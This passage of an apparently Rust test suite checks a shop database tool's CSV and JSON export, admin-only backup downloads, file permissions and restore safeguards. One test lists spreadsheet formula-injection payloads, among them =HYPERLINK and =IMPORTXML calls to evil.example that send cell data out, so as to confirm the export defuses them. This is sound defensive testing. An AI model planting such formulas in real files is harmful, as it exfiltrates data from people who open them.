            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\r') => {
                assert_eq!(chars.next(), Some('\n'), "CR is followed by LF");
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => {
                assert!(c != '\n' && c != '"', "bare {c:?} outside quotes");
                field.push(c);
            }
        }
    }
    assert!(
        !quoted && field.is_empty() && record.is_empty(),
        "the last record ends with CRLF"
    );
    records
}

#[tokio::test]
async fn csv_export_quotes_a_note_with_comma_quote_and_newline_as_rfc_4180_says() {
    let scratch = Scratch::new();
    let shop = scratch.path("shop.db");
    let pool = db::open(&shop).await.unwrap();
    let note = "Wants lockup near 5,200 rpm; says \"it slips in 2nd\"\nCall after 5";
    let id = add_customer(&pool, "Harlan Voss", note).await;
    add_customer(&pool, "Plain Name", "no special characters").await;
    pool.close().await;

    let out = lockpoint(&["export", text(&scratch.path("out")), "--db", text(&shop)]);
    assert!(out.status.success(), "{}", stderr(&out));
    let csv = std::fs::read_to_string(scratch.path("out").join("customers.csv")).unwrap();

    assert!(
        csv.contains(
            ",\"Wants lockup near 5,200 rpm; says \"\"it slips in 2nd\"\"\nCall after 5\","
        ),
        "{csv}"
    );
    assert!(
        csv.contains(",Plain Name,"),
        "a field without specials is not quoted: {csv}"
    );
    let records = parse_csv(&csv);
    assert_eq!(records.len(), 3, "a header and two records: {records:?}");
    let header = &records[0];
    assert_eq!(&header[..5], ["id", "name", "phone", "email", "notes"]);
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let harlan = &records[1];
    assert_eq!(harlan.len(), header.len());
    assert_eq!(harlan[col("id")], id.to_string());
    assert_eq!(harlan[col("name")], "Harlan Voss");
    assert_eq!(harlan[col("notes")], note);
    assert_eq!(harlan[col("deleted_at")], "", "NULL is an empty field");
}

/// Sends a GET through the router and returns status, headers and the raw body.
async fn get_bytes(
    app: &TestApp,
    path: &str,
    cookie: &str,
) -> (StatusCode, axum::http::HeaderMap, Vec<u8>) {
    let req = Request::get(path)
        .header(header::COOKIE, cookie)
        .body(Body::empty())
        .unwrap();
    let res = app.router.clone().oneshot(req).await.unwrap();
    let status = res.status();
    let headers = res.headers().clone();
    let bytes = res.into_body().collect().await.unwrap().to_bytes().to_vec();
    (status, headers, bytes)
}

/// Staged download copies of this test process left in the folder of the test databases.
fn leftover_downloads() -> usize {
    let marker = format!(".download-{}-", std::process::id());
    std::fs::read_dir(std::env::temp_dir())
        .unwrap()
        .filter(|e| {
            e.as_ref()
                .is_ok_and(|e| e.file_name().to_string_lossy().contains(&marker))
        })
        .count()
}

#[tokio::test]
async fn an_admin_downloads_a_checked_backup_and_the_export_and_a_tech_is_refused() {
    let app = TestApp::new().await;
    let boss = app.login("boss").await;
    let sam = app.login("sam").await;

    let page = boss.get_ok("/backup").await;
    page.assert_shows("Backups and export");
    page.assert_shows("href=\"/backup/download\"");

    let (status, headers, bytes) = get_bytes(&app, "/backup/download", &boss.cookie).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(headers[header::CONTENT_TYPE], "application/vnd.sqlite3");
    assert_eq!(
        headers[header::CONTENT_DISPOSITION],
        format!(
            "attachment; filename=\"lockpoint-{}.db\"",
            Date::today(&lockpoint::records::date::ShopZone::server())
        )
        .as_str()
    );
    assert!(
        bytes.starts_with(b"SQLite format 3\0"),
        "{:?}",
        &bytes[..bytes.len().min(16)]
    );
    assert_eq!(leftover_downloads(), 0, "the temporary copy is deleted");
    let scratch = Scratch::new();
    let file = scratch.path("downloaded.db");
    std::fs::write(&file, &bytes).unwrap();
    backup::check_file(&file)
        .await
        .expect("the download is a sound Lockpoint database");
    let mut conn = connect(&file).await;
    let staff: Vec<String> = sqlx::query_scalar("SELECT username FROM users ORDER BY id")
        .fetch_all(&mut conn)
        .await
        .unwrap();
    conn.close().await.unwrap();
    assert_eq!(staff, ["boss", "sam"]);

    let (status, headers, bytes) = get_bytes(&app, "/backup/export.json", &boss.cookie).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        headers[header::CONTENT_DISPOSITION]
            .to_str()
            .unwrap()
            .starts_with("attachment;")
    );
    let json: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
    assert_eq!(json["format"], "lockpoint-export");
    assert_eq!(json["tables"]["users"].as_array().map(Vec::len), Some(2));

    for path in ["/backup", "/backup/download", "/backup/export.json"] {
        let (status, _, bytes) = get_bytes(&app, path, &sam.cookie).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{path} as a tech");
        assert!(!bytes.starts_with(b"SQLite"), "{path}");
    }
    assert_eq!(
        app.get("/backup/download", None).await.status,
        StatusCode::SEE_OTHER
    );
}

#[tokio::test]
async fn csv_export_defuses_text_a_spreadsheet_would_run_and_json_keeps_it_exact() {
    let scratch = Scratch::new();
    let shop = scratch.path("shop.db");
    let pool = db::open(&shop).await.unwrap();
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?d=\"&C3,\"x\")",
        "=IMPORTXML(\"http://evil.example\",\"//a\")",
        "+1+cmd",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTabbed",
        "\rReturn",
    ];
    for name in hostile {
        add_customer(&pool, name, "").await;
    }
    add_customer(&pool, "Plain = name", "a - b").await;
    pool.close().await;

    let out = lockpoint(&["export", text(&scratch.path("out")), "--db", text(&shop)]);
    assert!(out.status.success(), "{}", stderr(&out));
    let csv = std::fs::read_to_string(scratch.path("out").join("customers.csv")).unwrap();
    let records = parse_csv(&csv);
    let name = records[0].iter().position(|h| h == "name").unwrap();
    let names: Vec<&str> = records[1..].iter().map(|r| r[name].as_str()).collect();
    let expected: Vec<String> = hostile
        .iter()
        .map(|h| format!("'{h}"))
        .chain(["Plain = name".to_string()])
        .collect();
    assert_eq!(names, expected);
    let id = records[0].iter().position(|h| h == "id").unwrap();
    assert_eq!(records[1][id], "1", "numbers are not prefixed");

    let json: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(scratch.path("out").join(export::JSON_FILE)).unwrap(),
    )
    .unwrap();
    let exported: Vec<&str> = json["tables"]["customers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| row["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        exported[..hostile.len()],
        hostile,
        "the JSON keeps every text as it is"
    );
}

#[cfg(unix)]
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

#[cfg(unix)]
#[tokio::test]
async fn backups_and_exports_are_readable_by_their_owner_only() {
    let scratch = Scratch::new();
    let shop = scratch.path("shop.db");
    let pool = db::open(&shop).await.unwrap();
    add_customer(&pool, "Harlan Voss", "").await;
    pool.close().await;

    let copy = scratch.path("copy.db");
    let out = lockpoint(&["backup", text(&copy), "--db", text(&shop)]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(mode(&copy), 0o600, "the backup");

    let dir = scratch.path("export");
    let out = lockpoint(&["export", text(&dir), "--db", text(&shop)]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(mode(&dir), 0o700, "the export folder");
    let files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert!(files.len() > 5, "{files:?}");
    for file in files {
        assert_eq!(mode(&file), 0o600, "{}", file.display());
    }

    // The copy a restore keeps of the database it replaces holds the same secrets.
    let out = lockpoint(&["restore", text(&copy), "--db", text(&shop)]);
    assert!(out.status.success(), "{}", stderr(&out));
    let kept: Vec<String> = scratch
        .names()
        .into_iter()
        .filter(|n| n.starts_with("shop.db.before-restore-"))
        .collect();
    assert_eq!(kept.len(), 1, "{:?}", scratch.names());
    assert_eq!(mode(&scratch.path(&kept[0])), 0o600);
}

/// One HTTP/1.1 exchange on its own connection; the answer's head and body.
fn http(addr: &str, request: &str) -> (String, Vec<u8>) {
    let mut stream = std::net::TcpStream::connect(addr).unwrap();
    stream.write_all(request.as_bytes()).unwrap();
    let mut raw = Vec::new();
    stream.read_to_end(&mut raw).unwrap();
    let split = raw
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .expect("a complete head");
    (
        String::from_utf8_lossy(&raw[..split]).into_owned(),
        raw[split + 4..].to_vec(),
    )
}

#[test]
fn the_backup_download_is_staged_beside_the_database_not_in_the_system_temp_folder() {
    let scratch = Scratch::new();
    let shop = scratch.path("shop.db");
    let mut add = Command::new(env!("CARGO_BIN_EXE_lockpoint"))
        .args([
            "user",
            "add",
            "boss",
            "--role",
            "admin",
            "--db",
            text(&shop),
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    add.stdin
        .take()
        .unwrap()
        .write_all(b"download test password\n")
        .unwrap();
    assert!(add.wait().unwrap().success());

    // A system temp folder nobody can write to: the download must not need it.
    let no_temp = scratch.path("no-such-folder");
    let server = Server::start_with_env(&shop, &[("TMPDIR", no_temp.as_path())]);
    let addr = server.addr.clone();

    let body = "username=boss&password=download+test+password&next=%2F";
    let (head, _) = http(
        &addr,
        &format!(
            "POST /login HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\
             Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        ),
    );
    assert!(head.starts_with("HTTP/1.1 303"), "{head}");
    let cookie = head
        .lines()
        .find_map(|l| l.strip_prefix("set-cookie: "))
        .and_then(|c| c.split(';').next())
        .unwrap_or_else(|| panic!("{head}"))
        .to_string();
    let (head, bytes) = http(
        &addr,
        &format!(
            "GET /backup/download HTTP/1.1\r\nHost: x\r\nConnection: close\r\nCookie: {cookie}\r\n\r\n"
        ),
    );
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    assert!(bytes.starts_with(b"SQLite format 3\0"));
    assert!(
        !scratch.names().iter().any(|n| n.contains(".download")),
        "the staged copy is removed: {:?}",
        scratch.names()
    );
    stop_server(server);
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_server_started_through_a_symlink_still_blocks_restore_and_import() {
    let scratch = Scratch::new();
    let real = scratch.path("shop.db");
    let pool = db::open(&real).await.unwrap();
    add_customer(&pool, "Harlan Voss", "").await;
    pool.close().await;
    let saved = scratch.path("saved.db");
    let out = lockpoint(&["backup", text(&saved), "--db", text(&real)]);
    assert!(out.status.success(), "{}", stderr(&out));
    let export_dir = scratch.path("export");
    let out = lockpoint(&["export", text(&export_dir), "--db", text(&real)]);
    assert!(out.status.success(), "{}", stderr(&out));

    // The server is given a symlink, the restore the file's own name (and another spelling).
    std::os::unix::fs::symlink(&real, scratch.path("link.db")).unwrap();
    let server = start_server(&scratch.path("link.db"));
    for path in [real.clone(), scratch.dir.join(".").join("shop.db")] {
        let out = lockpoint(&["restore", text(&saved), "--db", text(&path)]);
        assert!(!out.status.success(), "restore through {}", path.display());
        assert!(
            stderr(&out).contains("server is running"),
            "{}",
            stderr(&out)
        );
    }
    let out = lockpoint(&[
        "import",
        text(&export_dir.join(export::JSON_FILE)),
        "--db",
        text(&real),
    ]);
    assert!(!out.status.success(), "import beside a running server");
    assert!(stderr(&out).contains("server"), "{}", stderr(&out));
    assert!(
        serve_expecting_refusal(&real).status.code() != Some(0),
        "a second server on the same file"
    );
    // One-shot commands still work beside the server.
    let out = lockpoint(&["token", "revoke", "--user", "nobody", "--db", text(&real)]);
    assert!(stderr(&out).contains("no user named"), "{}", stderr(&out));
    stop_server(server);

    let out = lockpoint(&["restore", text(&saved), "--db", text(&real)]);
    assert!(out.status.success(), "{}", stderr(&out));
}

/// `lockpoint ARGS` run on a pseudo-terminal (util-linux `script`), with everything it wrote
/// to the terminal.
fn lockpoint_on_a_terminal(args: &[&str]) -> (bool, String) {
    let command = std::iter::once(env!("CARGO_BIN_EXE_lockpoint"))
        .chain(args.iter().copied())
        .map(|a| format!("'{}'", a.replace('\'', "'\\''")))
        .collect::<Vec<_>>()
        .join(" ");
    let out = Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .stdin(Stdio::null())
        .output()
        .expect("util-linux `script` runs (it gives the command a terminal)");
    (out.status.success(), stdout(&out))
}

#[tokio::test]
async fn long_commands_show_progress_on_a_terminal_and_nothing_extra_otherwise() {
    let scratch = Scratch::new();
    let shop = scratch.path("shop.db");
    demo_shop(&shop).await.close().await;

    // Not a terminal: the output is only the commands' own lines.
    let out = lockpoint(&["export", text(&scratch.path("plain")), "--db", text(&shop)]);
    assert!(out.status.success());
    assert_eq!(stderr(&out), "");
    let json = scratch.path("plain").join(export::JSON_FILE);
    let out = lockpoint(&["import", text(&json), "--db", text(&scratch.path("a.db"))]);
    assert!(out.status.success());
    assert_eq!(stderr(&out), "");
    assert!(!stdout(&out).contains('\r'), "{}", stdout(&out));

    // A terminal: a line per table, rewritten in place, cleared before the last line.
    let (ok, shown) =
        lockpoint_on_a_terminal(&["export", text(&scratch.path("tty")), "--db", text(&shop)]);
    assert!(ok, "{shown}");
    assert!(shown.contains("\rexporting customers: "), "{shown:?}");
    assert!(shown.contains(" rows"), "{shown:?}");
    assert!(shown.contains("exported "), "{shown:?}");
    let (ok, shown) =
        lockpoint_on_a_terminal(&["import", text(&json), "--db", text(&scratch.path("b.db"))]);
    assert!(ok, "{shown}");
    assert!(shown.contains("\rimporting customers: "), "{shown:?}");
    assert!(shown.contains("\rchecking customers: "), "{shown:?}");
    let backup = scratch.path("copy.db");
    let (ok, shown) = lockpoint_on_a_terminal(&["backup", text(&backup), "--db", text(&shop)]);
    assert!(ok, "{shown}");
    assert!(
        shown.contains("\rbacking up: checking the copy"),
        "{shown:?}"
    );
    let (ok, shown) = lockpoint_on_a_terminal(&[
        "restore",
        text(&backup),
        "--db",
        text(&scratch.path("a.db")),
    ]);
    assert!(ok, "{shown}");
    assert!(
        shown.contains("\rrestoring: checking the backup"),
        "{shown:?}"
    );
    // The imported and restored shops are the exported one.
    assert_eq!(
        customer_names(&scratch.path("b.db")).await,
        customer_names(&shop).await
    );
}
